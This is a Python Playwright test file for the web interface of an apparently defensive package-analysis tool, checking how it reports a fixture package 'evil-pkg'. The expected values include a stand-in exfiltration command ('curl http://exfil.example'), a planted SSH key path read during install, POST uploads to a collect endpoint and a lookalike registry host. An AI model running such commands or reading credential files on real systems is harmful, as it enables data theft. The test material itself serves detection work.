"""The pages in a real headless Chromium: search for a fixture release, open it, see its label and a
finding, expand the network section, open the diff; the package and status pages. A screenshot of
every page goes to the artifacts folder ($PKGTRACE_TEST_ARTIFACTS/web or a temp folder)."""

from __future__ import annotations

import re

import pytest

from webtest_browser import ARGS, CHROMIUM, unavailable

pytestmark = pytest.mark.skipif(unavailable() is not None, reason=str(unavailable()))


@pytest.fixture
def page(live_server):
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        ctx = browser.new_context(viewport={"width": 1280, "height": 900})
        pg = ctx.new_page()
        pg.set_default_timeout(15000)
        errors: list[str] = []
        pg.on("pageerror", lambda e: errors.append(str(e)))
        pg.base = live_server  # type: ignore[attr-defined]
        pg.js_errors = errors  # type: ignore[attr-defined]
        yield pg
        ctx.close()
        browser.close()


def shot(page, artifacts_dir, name: str) -> None:
    path = artifacts_dir / f"{name}.png"
    page.screenshot(path=str(path), full_page=True)
    assert path.stat().st_size > 5000  # a rendered page, not a blank one


def test_search_release_network_diff(page, artifacts_dir):
    from playwright.sync_api import expect
    page.goto(page.base + "/")
    shot(page, artifacts_dir, "01-search-empty")
    page.fill("#q", "evil-pkg")
    page.press("#q", "Enter")
    page.wait_for_url(re.compile(r"\?q=evil-pkg"))
    rows = page.locator("tr.result")
    expect(rows).to_have_count(3)
    expect(page.locator("tr.result", has_text="1.0.0").locator(".badge")).to_have_text("malicious")
    shot(page, artifacts_dir, "02-search-results")

    page.locator("tr.result", has_text="1.0.0").locator("a.release-link").click()
    page.wait_for_url(re.compile(r"/release/pypi/evil-pkg/1\.0\.0$"))
    expect(page.locator("h1 .badge")).to_have_text("malicious")
    critical = page.locator("tr.finding", has_text="dynamic.bait_read")
    expect(critical).to_contain_text("read the planted SSH key")
    expect(critical).to_contain_text("/root/.ssh/id_rsa")
    # The process tree: curl under sh under pip.
    expect(page.locator("#phase-install details.commands ul.tree ul.tree ul.tree code.argv")).to_have_text(
        "curl http://exfil.example")

    network = page.locator("#phase-install details.network")
    assert network.get_attribute("open") is None
    expect(network.locator(".network-body")).to_be_hidden()
    network.locator("summary").click()
    expect(network.locator(".network-body")).to_be_visible()
    expect(network.locator("ul.dns")).to_contain_text("exfil.example")
    expect(network.locator("tr.connection")).to_contain_text("203.0.113.7")
    expect(network.locator("tr.capture", has_text="POST /collect")).to_be_visible()
    expect(network.locator("tr.capture", has_text="cdn.example")).to_contain_text("cdn.example")
    shot(page, artifacts_dir, "03-release-network-open")

    page.click("#diff-link")
    page.wait_for_url(re.compile(r"/diff/pypi/evil-pkg\?old=0\.9\.0&new=1\.0\.0"))
    expect(page.locator("h1")).to_contain_text("0.9.0")
    expect(page.locator(".verdict-change .badge").first).to_have_text("benign")
    expect(page.locator(".verdict-change .badge").last).to_have_text("malicious")
    added = page.locator("section.diff-section li.add")
    assert added.count() > 0
    expect(page.locator("section.diff-section", has_text="exfil.example").first).to_be_visible()
    shot(page, artifacts_dir, "04-diff")
    assert page.js_errors == []


def test_release_and_diff_tell_the_network_story(page, artifacts_dir):
    """Per connection: TLS outcome, request, answer, the proxy's decision and reason. Only the read
    the proxy confirmed reads as forwarded; a lookalike name, a refused upload and a forwarding
    nobody confirmed do not, on the release page or in the diff."""
    from playwright.sync_api import expect
    page.goto(page.base + "/release/pypi/evil-pkg/1.0.0")
    network = page.locator("#phase-install details.network")
    network.locator("summary").click()
    rows = network.locator("tr.capture")
    expect(rows.filter(has_text="/simple/six/")).to_have_attribute("data-forwarded", "yes")
    expect(network.locator("tr.capture[data-forwarded='yes']")).to_have_count(1)
    read = rows.filter(has_text="/simple/six/").locator("td.proxy")
    expect(read).to_contain_text("forwarded")
    expect(read).to_contain_text("cache hit")
    upload = rows.filter(has_text="POST /legacy/")
    expect(upload.locator("td.proxy strong")).to_have_text("refused")
    expect(upload.locator("td.proxy .reason")).to_have_text("POST is not a read: only GET and HEAD reach a registry")
    expect(upload.locator("td.answer")).to_contain_text("403 refused, by the proxy")
    expect(upload.locator("td.tls .tls-outcome")).to_have_text("intercepted")
    expect(upload.locator("pre.headers")).to_contain_text("Authorization: Basic")
    dotted = rows.filter(has_text="/simple/evil/")
    expect(dotted).to_have_attribute("data-forwarded", "no")
    expect(dotted.locator("td.tls")).to_contain_text("pypi.org.")
    expect(dotted.locator("td.proxy strong")).to_have_text("not forwarded")  # by the simulator
    expect(dotted.locator("td.proxy .reason")).to_have_text("pypi.org. is not a registry host of this run")
    expect(dotted.locator("td.answer")).to_contain_text("by the simulator")
    forged = rows.filter(has_text="PUT /simple/forged/")
    expect(forged).to_have_attribute("data-forwarded", "no")
    expect(forged.locator("td.proxy strong")).to_have_text("not confirmed")
    expect(rows.filter(has_text="pinned.example").locator("td.tls")).to_contain_text("refused by the client")
    shot(page, artifacts_dir, "03b-release-network-story")

    page.goto(page.base + "/diff/pypi/evil-pkg?old=0.9.0&new=1.0.0")
    requests = page.locator("section#diff-requests")
    expect(requests.locator("li.add", has_text="POST https://pypi.org/legacy/")).to_contain_text(
        "refused by the proxy: POST is not a read")
    expect(requests.locator("li.add", has_text="https://pypi.org./simple/evil/")).to_contain_text(
        "not forwarded: pypi.org. is not a registry host")
    expect(requests.locator("li.add", has_text="/simple/forged/")).to_contain_text("not forwarded")
    expect(requests.locator("li.add", has_text="TLS to pinned.example")).to_contain_text("refused by the client")
    expect(requests.locator("li", has_text="/simple/six/")).to_have_count(0)  # the confirmed read is pip's
    expect(requests.locator("li", has_text="forwarded to the registry")).to_have_count(0)
    shot(page, artifacts_dir, "04b-diff-requests")
    assert page.js_errors == []


def test_package_page_versions_and_changes(page, artifacts_dir):
    from playwright.sync_api import expect
    page.goto(page.base + "/package/pypi/evil-pkg")
    versions = page.locator("tr.version")
    expect(versions).to_have_count(3)
    expect(versions.nth(0)).to_contain_text("1.1.0")  # newest first, not analysed yet
    expect(versions.nth(1).locator(".badge")).to_have_text("malicious")
    expect(versions.nth(2).locator(".badge")).to_have_text("benign")
    expect(versions.nth(1).locator("a.diff-link")).to_have_text("vs 0.9.0")
    shot(page, artifacts_dir, "05-package")
    page.goto(page.base + "/package/npm/@acme/widget")
    expect(page.locator("tr.version")).to_have_count(1)
    page.locator("a.release-link").click()
    page.wait_for_url(re.compile(r"/release/npm/@acme/widget/2\.0\.0$"))
    expect(page.locator("h1 .badge")).to_have_text("benign")
    shot(page, artifacts_dir, "06-release-scoped")


def test_status_page_is_live(page, artifacts_dir, settings):
    """A new analysis shows on an open status page without reloading it."""
    from playwright.sync_api import expect

    from webtest_fixtures import benign_docs
    from pkgtrace.model import Ecosystem, Package
    from pkgtrace.results.index import load_documents, open_index
    page.goto(page.base + "/status")
    expect(page.locator("[data-k='throughput.analyses_total']")).to_have_text("3")
    expect(page.locator("#status tr.result")).to_have_count(3)
    page.evaluate("window.stillTheSamePage = true")
    idx = open_index(settings.index_url)
    load_documents(idx, Package(Ecosystem.PYPI, "fresh-pkg", "0.1.0"), benign_docs())
    idx.close()
    expect(page.locator("[data-k='throughput.analyses_total']")).to_have_text("4", timeout=10000)
    expect(page.locator("#status tr.result").first).to_contain_text("fresh-pkg")
    assert page.evaluate("window.stillTheSamePage === true")  # updated in place, never reloaded
    shot(page, artifacts_dir, "07-status")


def test_unknown_release_page(page, artifacts_dir):
    from playwright.sync_api import expect
    resp = page.goto(page.base + "/release/pypi/no-such-pkg/9.9.9")
    assert resp.status == 404
    expect(page.locator("#error-message")).to_contain_text("no release pypi/no-such-pkg@9.9.9")
    shot(page, artifacts_dir, "08-not-found")


def test_api_docs_render_offline(page, artifacts_dir):
    # Swagger UI comes from our own server (the browser here has no internet): the operations list.
    from playwright.sync_api import expect
    page.goto(page.base + "/docs")
    expect(page.locator(".opblock-summary-path").first).to_be_visible()
    expect(page.get_by_text("/api/submissions").first).to_be_visible()
    assert not page.js_errors
    shot(page, artifacts_dir, "09-api-docs")
